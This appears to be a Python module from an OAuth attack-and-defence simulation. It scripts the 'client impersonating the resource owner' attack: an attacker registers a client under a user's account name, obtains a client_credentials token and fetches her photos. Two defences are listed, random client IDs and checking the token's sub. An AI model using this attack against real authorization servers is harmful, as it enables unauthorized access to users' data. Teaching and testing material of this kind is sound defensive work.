"""Client impersonating the resource owner: a client that is called like a person (RFC 9700 §4.15)."""

from __future__ import annotations

import json
from contextlib import suppress

import httpx2

from app.actors.client.token_endpoint import json_object
from app.actors.places import ACCOUNT, ASKED_SCOPE, REGISTRATION_ENDPOINT, TOKEN_ENDPOINT
from app.attacks import parts
from app.attacks.attack import Attack, Defence
from app.attacks.parts import ATTACKER, STEAL
from app.trace import Phase
from app.wire import Step, World

NAME = "name"
GRANT = "client_credentials"
WISH = {
    "client_id": ACCOUNT,
    "client_name": "Statistics",
    "grant_types": [GRANT],
    "response_types": [],
    "token_endpoint_auth_method": "client_secret_post",
    "scope": ASKED_SCOPE,
}


def script(world: World) -> None:
    """Register a client under Ana's name, let it ask in its own name, and call the API."""
    thief = world.actor(ATTACKER)
    registered = {}
    with suppress(httpx2.TransportError):
        body = json.dumps(WISH, separators=(",", ":"))
        headers = {"Content-Type": "application/json"}
        registered = json_object(thief.http.post(REGISTRATION_ENDPOINT, content=body, headers=headers))
    own = {name: str(registered.get(name, "")) for name in ("client_id", "client_secret")}
    if own["client_id"]:
        form = {"grant_type": GRANT, "scope": ASKED_SCOPE, **own}
        parts.fetch_photos(thief, str(parts.post(thief, TOKEN_ENDPOINT, form).get("access_token", "")))


ATTACK = Attack(
    id="client-as-owner",
    title="Client taken for the resource owner",
    spec=("RFC 9700 §4.15", "RFC 9068 §5"),
    flows=("client_credentials",),
    aim="A client that acts in its own name gets Ana's photos.",
    goal=lambda trace: parts.answered(
        trace,
        "thief_photos",
        "The API took the client for Ana, and gave it her photos.",
        parts.shows_photos_of(ACCOUNT),
    ),
    weak={"as.client_id_policy": "chosen", "rs.sub_check": "ignored"},
    stops=(
        Defence(
            switch="as.client_id_policy",
            value="random",
            who="as",
            sentence="The server makes up the names of clients: the token is about nobody who has photos.",
        ),
        Defence(
            switch="rs.sub_check",
            value="compared",
            who="rs",
            sentence="The API sees that sub is the client itself: no owner gave this token to anybody.",
            check="resource.token.owner",
            at="thief_photos#1.request",
            status=403,
            error="insufficient_scope",
        ),
    ),
    promised={"rfc9700": "RFC 9700 §4.15", "oauth-2.1": "OAuth 2.1 §7.4"},
    lanes=(parts.thief("Statistics", "malicious client"),),
    steps=(
        Step("thief_register", ATTACKER, "as", "POST", "/register", NAME, "Register under a person's name"),
        Step("thief_token", ATTACKER, "as", "POST", "/token", STEAL, "Ask in one's own name"),
        Step("thief_photos", ATTACKER, "rs", "GET", "/photos", STEAL, "Fetch the photos"),
    ),
    phases=(Phase(NAME, "Choose a name"), parts.STEALING),
    script=script,
    victim="Ana does nothing at all: no page, no question. She does not even have to exist when he registers.",
    attacker="He asks for a name, and for a token about himself. Both are given to him by the book.",
    remains="A name that is given to a person later: a server has to keep the two kinds apart for good.",
)
